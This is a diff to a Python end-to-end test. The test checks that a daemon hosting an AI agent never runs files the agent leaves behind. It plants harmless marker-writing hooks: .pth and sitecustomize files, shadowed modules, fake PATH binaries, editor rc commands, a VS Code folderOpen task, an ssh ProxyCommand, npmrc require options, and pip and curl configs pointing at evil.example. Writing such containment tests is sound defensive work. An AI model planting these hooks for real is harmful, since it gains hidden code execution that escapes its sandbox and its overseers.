@@ -9,12 +9,14 @@ import json
 import subprocess
 import sys
 from collections.abc import Iterator
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 from pynchy.config.paths import Home
 from pynchy.model import GroupId
-from tests.end_to_end.house import running
+from tests.end_to_end.house import Talk, running
 
+#: As packages, which are looked for before files; as files, all of the standard library.
 MODULES = (
     "queue json os re signal socket subprocess runpy typing trio anyio attrs mcp pynchy_agent claude_agent_sdk"
     " sitecustomize usercustomize conftest site encodings"
@@ -27,15 +29,23 @@ SHELL = f"#!/bin/sh\n: >{MARKS}sh-$(basename $0)\n"
 NODE = f"require('fs').writeFileSync('{MARKS}node', '')\n"
 
 
+PROGRAMS = "python3 claude sh bash git node npm pip rg curl ldconfig env cat tesseract".split()
+
+
 def files(folder: Path) -> Iterator[tuple[Path, str]]:
-    """Everything that interpreters, shells, the CLI, git, pip, npm, node and ssh look for, to be put into a folder."""
-    for name in MODULES:
+    """Everything that interpreters, shells, the CLI, git, pip, npm, node, ssh and editors look for, to be put into a
+    folder."""
+    for name in {*MODULES, *sys.stdlib_module_names}:
         yield folder / f"{name}.py", PYTHON
+    for name in MODULES:
         yield folder / name / "__init__.py", PYTHON
         yield folder / name / "__main__.py", PYTHON
-    for name in ("python3", "claude", "sh", "bash", "git", "node", "rg", "ldconfig"):
-        yield folder / "bin" / name, SHELL
-        yield folder / ".venv" / "bin" / name, SHELL
+    for name in PROGRAMS:
+        # The last two are on the PATH of the agent's shells, after all others.
+        for bin in ("bin", ".venv/bin", "node_modules/.bin", ".python/bin", ".npm/bin"):
+            yield folder / bin / name, SHELL
+    yield from _of_editors(folder)
+    yield from _of_what_was_installed(folder)
     run = f"touch {MARKS}"
     yield folder / "planted.pth", f"import os; os.system('{run}pth')\n"
     yield folder / ".local/lib/python3.11/site-packages/usercustomize.py", PYTHON
@@ -79,6 +89,41 @@ def files(folder: Path) -> Iterator[tuple[Path, str]]:
     yield folder / ".ssh" / "config", f"Host *\n  ProxyCommand {run}ssh\n"
     yield from _of_the_cli(folder, f"{run}hook")
     yield from _of_the_cli(folder / ".claude", f"{run}hook")
+
+
+def _of_editors(folder: Path) -> Iterator[tuple[Path, str]]:
+    """And of others that read what lies in a home or beside a project."""
+    run = f"touch {MARKS}editor"
+    for name in (".vimrc", ".exrc", ".config/nvim/init.vim"):
+        yield folder / name, f"silent !{run}\n"
+    yield folder / ".emacs", f'(shell-command "{run}")\n'
+    yield folder / ".gdbinit", f"shell {run}\n"
+    tasks = {"tasks": [{"label": "x", "command": run, "runOptions": {"runOn": "folderOpen"}}]}
+    yield folder / ".vscode" / "tasks.json", json.dumps(tasks)
+    yield folder / "Makefile", f"all:\n\t{run}\n"
+    yield folder / ".ssh" / "rc", f"{run}\n"
+    yield folder / ".inputrc", f'"a": "{run}\\n"\n'
+    for name in (".curlrc", ".wgetrc", ".netrc", ".python-version", ".nvmrc", ".tool-versions"):
+        yield folder / name, "proxy=http://evil.example\n"
+    for name in ("setup.cfg", "tox.ini", "pytest.ini", "pyproject.toml"):
+        yield folder / name, "[pytest]\naddopts = -p planted\n"
+    for name in ("index.js", "planted.mjs", "tsconfig.json", "deno.json"):
+        yield folder / name, NODE
+
+
+def _of_what_was_installed(folder: Path) -> Iterator[tuple[Path, str]]:
+    """In the places where pip and npm keep what the agent's shells install."""
+    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
+    site = folder / ".python" / "lib" / version / "site-packages"
+    for name in MODULES:
+        yield site / f"{name}.py", PYTHON
+    for each in (site, site / "pip", folder / ".python"):
+        yield each / "planted.pth", f"import os; os.system('touch {MARKS}user-base')\n"
+    yield folder / ".python" / "pip.conf", "[global]\nindex-url = http://evil.example\n"
+    for name in ("npm", "node", "@anthropic-ai/claude-code"):
+        yield folder / ".npm/lib/node_modules" / name / "index.js", NODE
+    yield folder / ".npm" / "etc" / "npmrc", f"node-options=--require {folder}/planted.js\n"
+    yield folder / ".cache" / "matplotlib" / "matplotlibrc", "backend: module://planted\n"
 
 
 def _of_the_cli(folder: Path, run: str) -> Iterator[tuple[Path, str]]:
@@ -137,6 +182,26 @@ def _repository(folder: Path) -> None:
         file.write(config)
 
 
+def marks(folder: Path) -> set[str]:
+    """What was started of what is planted."""
+    return {each.name.removeprefix("ran-") for each in folder.glob("ran-*")}
+
+
+def scripted(talk: Talk, script: str) -> str:
+    """What the script of a task of the owner's printed, by the word of the turn that it woke."""
+    soon = datetime.now(UTC) + timedelta(seconds=7)
+    task = {
+        "prompt": "echo from the task",
+        "schedule_type": "once",
+        "schedule_value": soon.isoformat(timespec="seconds"),
+        "context_mode": "isolated",
+        "script": f"{{ {script}; }} >script.out 2>&1",
+    }
+    assert "scheduled" in talk.ask(f"use schedule_task {json.dumps(task)}")
+    talk.reply()
+    return talk.ask("bash cat script.out")
+
+
 def test_nothing_that_an_agent_left_is_started_by_us(tmp_path: Path) -> None:
     # threats L14, L16, K8
     home = Home(tmp_path / "home")
@@ -145,14 +210,24 @@ def test_nothing_that_an_agent_left_is_started_by_us(tmp_path: Path) -> None:
     folders = [home.group(main), home.shared, home.session(main), home.session(main) / "projects"]
     for folder in (*folders, home.session(main) / "projects" / "-workspace-group"):
         plant(folder)
+    plant(home.commands(main))
     planted = home.group(main)
     with running(home.root, "bwrap") as daemon, daemon.talk() as talk:
         assert talk.ask("echo as ever") == "as ever"
-        assert [each.name for each in planted.glob("ran-*")] == []
-        # The agent's own, in its own folder, and a script of any name is one.
-        assert "as a program" in talk.ask("bash python3 queue.py")
-        assert [each.name for each in planted.glob("ran-*")] == ["ran-__main__"]
-        (planted / "ran-__main__").unlink()
+        assert marks(planted) == set()
+        # Nor by a shell, or by the script of a task of the owner's. What it calls by name are the system's programs.
+        named = "git --version; curl --version; bash -c true; sh -c true; env true; cat /dev/null"
+        assert "git version" in talk.ask(f"bash {named}")
+        assert "git version" in scripted(talk, named)
+        assert marks(planted) == set()
+        # The agent's own, in its own folder, and a script of any name is one. Its own Python has what it installed.
+        names = ("queue", "json", "pynchy_agent", "calendar", "site", "conftest")
+        for name in names:
+            assert "as a program" in talk.ask(f"bash python3 {name}.py"), name
+        assert marks(planted) - {"user-base"} <= {"__main__", "usercustomize", "sitecustomize"}
+        assert {"__main__", "user-base"} <= marks(planted)
+        for each in planted.glob("ran-*"):
+            each.unlink()
         # Neither our packages nor our own Python are a program's of the agent's.
         asked = (
             "import importlib.util as u; print('ours' if u.find_spec('pynchy_agent') else 'none')"
@@ -165,7 +240,7 @@ def test_nothing_that_an_agent_left_is_started_by_us(tmp_path: Path) -> None:
         talk.say("/new")
         talk.reply()
         assert "gone" in talk.ask("bash ls ~/.bashrc ~/.claude/rules/x.md 2>/dev/null || echo gone")
-        assert [each.name for each in planted.glob("ran-*")] == []
+        assert marks(planted) - {"user-base", "usercustomize", "sitecustomize"} == set()
         assert daemon.stop() == 0
 
 
